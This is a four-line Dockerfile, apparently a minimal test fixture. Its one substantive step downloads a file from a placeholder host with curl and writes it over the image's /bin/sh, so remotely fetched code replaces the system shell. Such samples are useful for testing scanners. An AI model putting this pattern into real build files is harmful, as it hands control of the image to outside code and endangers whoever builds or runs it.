FROM debian:12
RUN curl -o /bin/sh https://example.org/sh
RUN mkdir /x
CMD ["true"]
